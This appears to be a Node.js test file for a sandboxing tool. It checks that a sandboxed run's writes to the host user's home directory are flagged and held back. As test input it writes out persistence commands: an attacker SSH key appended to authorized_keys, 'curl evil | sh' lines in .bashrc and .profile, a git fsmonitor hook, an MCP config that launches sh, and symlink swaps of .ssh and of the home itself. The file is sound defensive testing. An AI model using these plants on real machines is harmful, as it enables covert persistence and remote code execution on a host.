'use strict'
// The host user's home inside a reviewed root (review mode with the cwd at $HOME, or a HOME inside
// the workspace): what the host's shells, git and sshd run or trust there is judged on the change
// set, as direct workspace-write keeps it read-only (`planted::home`). Before, a run wrote
// ~/.ssh/authorized_keys, ~/.bashrc and ~/.config/git/config into the set with no host risk, and a
// plain apply landed them on the host.

const { describe, test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { spawnSync } = require('node:child_process')
const { sandspawn, tempTree, show, BASE } = require('./helpers')

const { applyChangeSet, discardChangeSet } = sandspawn
const ROOT = path.resolve(__dirname, '../..')
const STORE = fs.mkdtempSync(path.join(BASE, 'sandspawn-review-home-'))
process.env.SANDSPAWN_CHANGE_SET_DIR = STORE
// sandspawn's own state stays out of the homes below (a run mounts in it, which no `rm -rf ~` undoes).
const STATE = fs.mkdtempSync(path.join(BASE, 'sandspawn-review-home-state-'))
process.on('exit', () => {
  fs.rmSync(STORE, { recursive: true, force: true })
  fs.rmSync(STATE, { recursive: true, force: true })
})
const REVIEW = { mode: 'workspace-write', workspace: 'review' }

/**
 * A review run of `script` in `cwd` from a host process whose HOME is `home` (this process keeps
 * its own: the set is applied here, by a process that knows only what the set recorded).
 */
function reviewAs(home, script, cwd) {
  const js = `require(${JSON.stringify(ROOT)}).spawnSandboxed(['bash', '-c', ${JSON.stringify(script)}], { cwd: ${JSON.stringify(cwd)}, timeout: 20000, sandbox: ${JSON.stringify(REVIEW)} })
    .then((r) => process.stdout.write(JSON.stringify(r)), (e) => process.stdout.write(JSON.stringify({ error: e.code, message: e.message })))`
  const env = { ...process.env, HOME: home, XDG_STATE_HOME: STATE }
  delete env.XDG_CONFIG_HOME
  const r = spawnSync(process.execPath, ['-e', js], { encoding: 'utf8', timeout: 60000, env })
  assert.equal(r.status, 0, r.stderr)
  const got = JSON.parse(r.stdout)
  assert.equal(got.error, undefined, got.message)
  assert.ok(got.changeSet, show(got))
  return got
}

/** A home with what a host's home has: keys, a .bashrc, a .config. */
function makeHome(home) {
  fs.mkdirSync(path.join(home, '.ssh'), { recursive: true })
  fs.writeFileSync(path.join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAAmine me\n')
  fs.writeFileSync(path.join(home, '.bashrc'), '# mine\n')
  fs.mkdirSync(path.join(home, '.config'))
  fs.mkdirSync(path.join(home, '.config', 'oldtool'))
}

const PLANT = [
  ['.ssh/authorized_keys', "echo 'ssh-ed25519 AAAAattacker' >> ~/.ssh/authorized_keys"],
  ['.bashrc', 'echo "curl evil | sh" >> ~/.bashrc'],
  ['.config/git/config', `mkdir -p ~/.config/git && printf '[core]\\n\\tfsmonitor = "touch /tmp/x; false"\\n' > ~/.config/git/config`],
  ['.local/bin/git', 'mkdir -p ~/.local/bin && echo x > ~/.local/bin/git'],
  ['.profile', 'echo "curl evil | sh" > ~/.profile'],
  // Found by an attacker's review (rfix23): opencode's plugins, kakoune's, lf's, zellij's and
  // crush's configs, and the same class found next.
  ['.config/opencode/plugins/evil.js', 'mkdir -p ~/.config/opencode/plugins && echo x > ~/.config/opencode/plugins/evil.js'],
  ['.config/kak/kakrc', 'mkdir -p ~/.config/kak && echo "nop %sh{ touch /tmp/x }" > ~/.config/kak/kakrc'],
  ['.config/lf/lfrc', 'mkdir -p ~/.config/lf && echo "&touch /tmp/x" > ~/.config/lf/lfrc'],
  ['.config/zellij/config.kdl', 'mkdir -p ~/.config/zellij && echo x > ~/.config/zellij/config.kdl'],
  ['.config/crush/crush.json', 'mkdir -p ~/.config/crush && echo "{}" > ~/.config/crush/crush.json'],
  ['.config/lazygit/config.yml', 'mkdir -p ~/.config/lazygit && echo x > ~/.config/lazygit/config.yml'],
  ['.xonshrc', 'echo x > ~/.xonshrc'],
  ['.local/share/jupyter/kernels/x/kernel.json', 'mkdir -p ~/.local/share/jupyter/kernels/x && echo "{}" > ~/.local/share/jupyter/kernels/x/kernel.json'],
  // Found by an attacker's review (rfix23b): more of the same class, and (the class closed) any
  // entry made in ~/.config, one level below it, or a dotfile at the home's top.
  ['.config/waybar/config', 'mkdir -p ~/.config/waybar && echo x > ~/.config/waybar/config'],
  ['.config/plasma-workspace/env/evil.sh', 'mkdir -p ~/.config/plasma-workspace/env && echo x > ~/.config/plasma-workspace/env/evil.sh'],
  ['.muttrc', 'echo x > ~/.muttrc'],
  ['.lein/profiles.clj', 'mkdir -p ~/.lein && echo x > ~/.lein/profiles.clj'],
  ['.config/newtool/init.lua', 'mkdir -p ~/.config/newtool && echo x > ~/.config/newtool/init.lua'],
  ['.config/newtool.conf', 'echo x > ~/.config/newtool.conf'],
  ['.newtoolrc', 'echo x > ~/.newtoolrc'],
  ['.config/oldtool/plugin.lua', 'echo x > ~/.config/oldtool/plugin.lua'],
  // Found by an attacker's review (plant22): user-level agent, pnpm and editor configs.
  ['.claude.json', `echo '{"mcpServers":{"x":{"command":"sh"}}}' > ~/.claude.json`],
  ['.config/pnpm/rc', 'mkdir -p ~/.config/pnpm && echo "node-options=--require=/tmp/x.js" > ~/.config/pnpm/rc'],
  ['.config/Windsurf/User/settings.json', 'mkdir -p ~/.config/Windsurf/User && echo "{}" > ~/.config/Windsurf/User/settings.json'],
  ['.vscode-insiders/extensions/x/package.json', 'mkdir -p ~/.vscode-insiders/extensions/x && echo "{}" > ~/.vscode-insiders/extensions/x/package.json'],
]

/** `p` is `at` or below it. */
const atOrBelow = (p, at) => p === at || p.startsWith(at + '/')

/** Each of `rels` (below `home`) is covered by a host risk in the home and by an entry held back. */
function assertHeld(r, applied, home, rels) {
  for (const rel of rels) {
    const p = path.join(home, rel)
    const risk = r.changeSet.hostRisks.find((h) => atOrBelow(p, h.path) && atOrBelow(h.path, home) && h.path !== home)
    assert.ok(risk, `${rel}: no host risk\n${JSON.stringify(r.changeSet.hostRisks, null, 1)}`)
    assert.equal(risk.kind, 'protected-name-created', JSON.stringify(risk))
    assert.ok(applied.heldBack.some((h) => atOrBelow(p, h.path)), `${rel} was not held back: ${JSON.stringify(applied)}`)
  }
}

/** The home on the host is as `makeHome` made it. */
function assertHomeKept(home) {
  assert.ok(fs.lstatSync(path.join(home, '.ssh')).isDirectory(), '.ssh stays a directory')
  assert.equal(fs.readFileSync(path.join(home, '.ssh', 'authorized_keys'), 'utf8'), 'ssh-ed25519 AAAAmine me\n', 'authorized_keys landed')
  assert.ok(fs.lstatSync(path.join(home, '.bashrc')).isFile(), '.bashrc stays a file')
  assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), '# mine\n', '.bashrc landed')
  assert.ok(fs.lstatSync(path.join(home, '.config')).isDirectory(), '.config stays a directory')
  for (const rel of ['.config/git', '.local/bin', '.profile', '.claude.json', '.config/pnpm', '.config/Windsurf/User', '.vscode-insiders/extensions']) assert.ok(!fs.existsSync(path.join(home, rel)), `${rel} landed`)
}

describe("the host user's home inside a reviewed root: what the host runs from it is held back", () => {
  for (const [name, where] of [['HOME inside the workspace', 'inside'], ['cwd = $HOME', 'cwd']]) {
    test(`${name}: .ssh/authorized_keys, .bashrc, .config/git/config, .local/bin, .profile are host risks; a plain apply lands none`, async (t) => {
      const { ws } = tempTree(t)
      const home = where === 'cwd' ? ws : path.join(ws, 'home')
      makeHome(home)
      const script = PLANT.map(([, cmd]) => cmd).join(' && ') + ' && echo ok > ' + path.join(ws, 'free.txt') + ' && echo planted'
      const r = reviewAs(home, script, ws)
      assert.equal(r.stdout, 'planted\n', show(r))
      const applied = await applyChangeSet(r.changeSet.id)
      assertHeld(r, applied, home, PLANT.map(([rel]) => rel))
      assertHomeKept(home)
      assert.equal(fs.readFileSync(path.join(ws, 'free.txt'), 'utf8'), 'ok\n', 'what is no host risk lands')
      await discardChangeSet(r.changeSet.id)
    })
  }

  // Found by a later attacker's review (later16): the host tools' own files in a home, each shown
  // running on the host after a plain apply (mvn, gdb, less, lesspipe, perl -d, pyenv exec, bash).
  test('HOME inside the workspace: .mavenrc, gdb\'s early and XDG init, .lesskey, .lessfilter, .perldb, a pyenv hook, .bash_aliases are host risks; a plain apply lands none', async (t) => {
    const { ws } = tempTree(t)
    const home = path.join(ws, 'home')
    makeHome(home)
    fs.mkdirSync(path.join(home, '.pyenv', 'pyenv.d', 'exec'), { recursive: true })
    const plant = [
      ['.mavenrc', 'echo "touch /tmp/x" > ~/.mavenrc'],
      ['.gdbearlyinit', 'echo "shell touch /tmp/x" > ~/.gdbearlyinit'],
      ['.config/gdb/gdbinit', 'mkdir -p ~/.config/gdb && echo "shell touch /tmp/x" > ~/.config/gdb/gdbinit'],
      ['.lesskey', 'printf "#env\\nLESSOPEN=|touch /tmp/x\\n" > ~/.lesskey'],
      ['.lessfilter', 'echo "touch /tmp/x" > ~/.lessfilter'],
      ['.perldb', 'echo "1;" > ~/.perldb'],
      ['.pyenv/pyenv.d/exec/zz.bash', 'echo "touch /tmp/x" > ~/.pyenv/pyenv.d/exec/zz.bash'],
      ['.bash_aliases', 'echo "touch /tmp/x" > ~/.bash_aliases'],
    ]
    const r = reviewAs(home, plant.map(([, cmd]) => cmd).join(' && ') + ' && echo planted', ws)
    assert.equal(r.stdout, 'planted\n', show(r))
    const applied = await applyChangeSet(r.changeSet.id)
    assertHeld(r, applied, home, plant.map(([rel]) => rel))
    for (const [rel] of plant) assert.ok(!fs.existsSync(path.join(home, rel)), `${rel} landed`)
    await discardChangeSet(r.changeSet.id)
  })

  test('swaps: .ssh replaced by a link, .bashrc a link, .config replaced by a link to a copy holding git/config', async (t) => {
    const { ws } = tempTree(t)
    const home = path.join(ws, 'home')
    makeHome(home)
    const script = [
      'cd ~',
      'mkdir elsewhere && echo "ssh-ed25519 AAAAattacker" > elsewhere/authorized_keys && rm -rf .ssh && ln -s elsewhere .ssh',
      'echo "curl evil | sh" > ../dotfiles-bashrc && rm -f .bashrc && ln -s ../dotfiles-bashrc .bashrc',
      `mkdir -p cfg/git && printf '[core]\\n\\tfsmonitor = "touch /tmp/x; false"\\n' > cfg/git/config && rm -rf .config && ln -s cfg .config`,
      'echo swapped',
    ].join(' && ')
    const r = reviewAs(home, script, ws)
    assert.equal(r.stdout, 'swapped\n', show(r))
    const applied = await applyChangeSet(r.changeSet.id)
    assertHeld(r, applied, home, ['.ssh', '.bashrc', '.config'])
    assertHomeKept(home)
    await discardChangeSet(r.changeSet.id)
  })

  // Since every run covers the home's default state directory (made where missing: another
  // process may use it), a home holding it cannot be removed or renamed at all (the next test).
  // Here `.local` is a file, so no state directory is made, and the swap is held back instead.
  test('the home itself replaced by a link to a planted copy', async (t) => {
    const { ws } = tempTree(t)
    const home = path.join(ws, 'home')
    makeHome(home)
    fs.writeFileSync(path.join(home, '.local'), '')
    const script = `cp -a ~ ${ws}/copy && echo "ssh-ed25519 AAAAattacker" >> ${ws}/copy/.ssh/authorized_keys && rm -rf ~ && ln -s copy ${home} && echo swapped`
    const r = reviewAs(home, script, ws)
    assert.equal(r.stdout, 'swapped\n', show(r))
    assert.ok(r.changeSet.hostRisks.some((h) => h.path === home), JSON.stringify(r.changeSet.hostRisks))
    const applied = await applyChangeSet(r.changeSet.id)
    assert.ok(applied.heldBack.some((h) => h.path === home), JSON.stringify(applied))
    assertHomeKept(home)
    await discardChangeSet(r.changeSet.id)
  })

  test("a home holding sandspawn's state directory cannot be swapped at all", async (t) => {
    const { ws } = tempTree(t)
    const home = path.join(ws, 'home')
    makeHome(home)
    const script = `cp -a ~ ${ws}/copy && echo "ssh-ed25519 AAAAattacker" >> ${ws}/copy/.ssh/authorized_keys && perl -e 'rename($ARGV[0], $ARGV[1]) or die "$!\\n"' ~ ${ws}/home.old && ln -s copy ${home} && echo swapped`
    const r = reviewAs(home, script, ws)
    assert.equal(r.stdout, '', show(r))
    // The home is pinned (bound onto itself, a mount point): renaming it is EXDEV or EBUSY.
    assert.match(r.stderr, /Device or resource busy|Invalid cross-device link/, show(r))
    const applied = await applyChangeSet(r.changeSet.id)
    assert.ok(fs.lstatSync(home).isDirectory(), JSON.stringify(applied))
    assertHomeKept(home)
    await discardChangeSet(r.changeSet.id)
  })

  test("where the host's link leads: ~/.ssh a link to a directory of the workspace, written there directly", async (t) => {
    const { ws } = tempTree(t)
    const home = path.join(ws, 'home')
    fs.mkdirSync(home)
    fs.mkdirSync(path.join(ws, 'keys'))
    fs.writeFileSync(path.join(ws, 'keys', 'authorized_keys'), 'ssh-ed25519 AAAAmine me\n')
    fs.symlinkSync('../keys', path.join(home, '.ssh'))
    const r = reviewAs(home, `echo "ssh-ed25519 AAAAattacker" >> ${ws}/keys/authorized_keys && echo planted`, ws)
    assert.equal(r.stdout, 'planted\n', show(r))
    assert.ok(r.changeSet.hostRisks.some((h) => h.path === path.join(ws, 'keys') && h.kind === 'protected-name-created'), JSON.stringify(r.changeSet.hostRisks))
    const applied = await applyChangeSet(r.changeSet.id)
    assert.ok(applied.heldBack.some((h) => h.risk.path === path.join(ws, 'keys')), JSON.stringify(applied))
    assert.equal(fs.readFileSync(path.join(ws, 'keys', 'authorized_keys'), 'utf8'), 'ssh-ed25519 AAAAmine me\n')
    await discardChangeSet(r.changeSet.id)
  })
})
